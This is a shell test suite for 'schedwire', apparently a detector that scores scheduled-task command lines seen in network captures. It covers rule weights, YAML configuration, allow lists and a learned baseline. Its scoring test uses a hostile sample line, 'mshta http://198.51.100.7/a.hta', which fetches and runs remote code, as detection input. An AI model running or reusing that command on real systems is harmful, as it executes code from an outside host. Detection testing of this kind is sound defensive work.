#!/bin/sh
# What runs without a capture: --score, --rules, -T, --baseline-*; and the configuration.
schedwire=$(realpath "${SCHEDWIRE:-./schedwire}") root=$(realpath "${srcdir:-.}") n=0 bad=0
tmp=$(mktemp -d) || exit 99
trap 'rm -rf "$tmp"' EXIT
trap 'exit 99' INT TERM
capture=$root/pcaps/04_at_smb2_clear.pcap	# a benign task, and a malicious one

# shellcheck disable=SC2317	# these are called by ok
ok() {		# what, command ...: must succeed
	n=$((n + 1)) what=$1
	shift
	if "$@" >"$tmp/said" 2>&1; then
		echo "ok $n - $what"
	else
		echo "not ok $n - $what"
		sed 's/^/# /' "$tmp/said" "$tmp/err" 2>/dev/null | head -20
		bad=1
	fi
}

skip() {
	n=$((n + 1))
	echo "ok $n - $1 # SKIP $2"
}

# Runs it: $tmp/out, $tmp/err; the status must be the first argument.
run() {
	want=$1 status=0
	shift
	"$schedwire" "$@" >"$tmp/out" 2>"$tmp/err" </dev/null || status=$?
	[ "$status" -eq "$want" ] || { echo "exit status $status, not $want"; return 1; }
}

settings() {	# one YAML text
	printf '%s\n' "$1" >"$tmp/x.yaml"
}

alerts() {	# so many
	grep -c '"event_type":"alert"' "$tmp/out" | grep -qx "$1"
}

one_line() {	# the error is one line that names
	[ "$(wc -l <"$tmp/err")" -eq 1 ] && grep -qF "$1" "$tmp/err"
}

# ---- --score, --rules ----

scores() {
	printf '\\Copy\tC:\\Windows\\System32\\robocopy.exe D:\\a E:\\b /mir\nmshta http://198.51.100.7/a.hta\n\n' >"$tmp/lines"
	run 0 --score "$tmp/lines" -o - && [ "$(wc -l <"$tmp/out")" -eq 3 ] &&
	    sed -n 1p "$tmp/out" | grep -q '^{"score":0,"verdict":"benign"}$' &&
	    sed -n 2p "$tmp/out" | grep -q '"verdict":"malicious","reasons":\[{"id":"' &&
	    sed -n 3p "$tmp/out" | grep -q '^{"score":0'
}
ok "a detection object for each line" scores
again() {
	cp "$tmp/out" "$tmp/first" && run 0 --score "$tmp/lines" -o - && cmp "$tmp/out" "$tmp/first"
}
ok "the same lines have the same scores" again
hidden() {
	printf 'schtasks /create /s a /u b /p Hunter2 /tn x /tr y\n' >"$tmp/lines"
	run 0 --score "$tmp/lines" -o - && ! grep -q Hunter2 "$tmp/out"
}
ok "no password is told of a line" hidden
missing() { run 1 --score "$tmp/none" && one_line none; }
ok "lines that are not there are an error" missing
rules() {
	run 0 --rules && grep -q '^ *1053500  encoded_command  *+45  T1027.010' "$tmp/out"
}
ok "all reasons with their weights" rules

# ---- A configuration ----

if "$schedwire" -T -c /dev/null 2>&1 | grep -q 'built without'; then
	skip "settings" "built without YAML"
else
	settings 'sensor: dmz-1
rules: {web_address: {weight: 33}, hidden_window: {enabled: no}}'
	weights() {
		run 0 --rules -c "$tmp/x.yaml" && grep -q 'web_address  *+33 ' "$tmp/out" &&
		    grep -q 'hidden_window  *+0 ' "$tmp/out" &&
		    run 0 -c "$tmp/x.yaml" -r "$capture" -o - &&
		    grep -q '"id":"web_address","weight":33' "$tmp/out" &&
		    ! grep -q hidden_window "$tmp/out" && alerts 1 &&
		    ! grep -v '"host":"dmz-1"' "$tmp/out"
	}
	ok "weights are changed, rules turned off, the sensor named" weights
	good() { run 0 -T -c "$tmp/x.yaml" && one_line "$tmp/x.yaml: good"; }
	ok "-T finds it good" good
	settings 'score: {suspicious: 40, malicious: 70, alert: malicious}
allow:
  - {comment: ours, tasks: ["\\At*"], action: suppress}'
	allowed() {
		run 0 -c "$tmp/x.yaml" -r "$capture" -o - && alerts 0 &&
		    grep -q '"verdict":"malicious".*"allowed":"ours"' "$tmp/out" &&
		    grep -q 'entry 1, ours: applied 2 times' "$tmp/err"
	}
	ok "what is allowed is told and not alerted" allowed
	settings 'rules:
  web_adress: {weight: 1}'
	wrong() { run 1 -T -c "$tmp/x.yaml" && one_line "x.yaml:2: "; }
	ok "what is wrong is one line that says where" wrong
	settings 'output: eve.json'
	written() {
		(cd / && run 0 -c "$tmp/x.yaml" -r "$capture") &&
		    grep -q '"event_type":"alert"' "$tmp/eve.json"
	}
	ok "its output lies beside it" written
fi

# ---- A baseline ----

if "$schedwire" --baseline-show --baseline "$tmp/b.db" 2>&1 | grep -q 'built without'; then
	skip "baseline" "built without SQLite"
else
	learns() {
		run 0 --baseline "$tmp/b.db" -r "$capture" -o - &&
		    grep -q '"baseline":{"seen":0,"learning":true,"new":\["command","task","pair","user","interface"\]' "$tmp/out" &&
		    run 0 --baseline "$tmp/b.db" -r "$capture" -o - &&
		    grep -q '"baseline":{"seen":1,"first_seen":"2026-' "$tmp/out"
	}
	ok "a replay feeds the baseline that it is told" learns
	harmless() {
		run 0 --baseline-export --baseline "$tmp/b.db" && grep -q '10.20.0.50 > 10.20.0.10' "$tmp/out" &&
		    ! grep -q 203.0.113.7 "$tmp/out"
	}
	ok "what is suspicious is not learnt" harmless
	alike() {
		cp "$tmp/out" "$tmp/first" &&
		    run 0 --baseline-import "$tmp/first" --baseline "$tmp/c.db" &&
		    run 0 --baseline-export --baseline "$tmp/c.db" && cmp "$tmp/out" "$tmp/first"
	}
	ok "what is exported can be imported" alike
	shown() { run 0 --baseline-show --baseline "$tmp/c.db" && grep -q '10.20.0.50 > 10.20.0.10' "$tmp/out"; }
	ok "it is shown" shown
	none() { run 1 --baseline-show --baseline "$tmp/none.db" && one_line none.db; }
	ok "a baseline that is not there is an error, and is not made" none
	junk() {
		cp "$capture" "$tmp/junk" && run 1 --baseline "$tmp/junk" -r "$capture" &&
		    one_line junk && cmp "$capture" "$tmp/junk" && [ ! -e "$tmp/junk-lock" ]
	}
	ok "a file that is none is an error" junk
	without() {
		run 0 -r "$capture" -o - && ! grep -q '"baseline"' "$tmp/out"
	}
	ok "a replay that is not told of one uses none" without
fi
echo "1..$n"
exit $bad
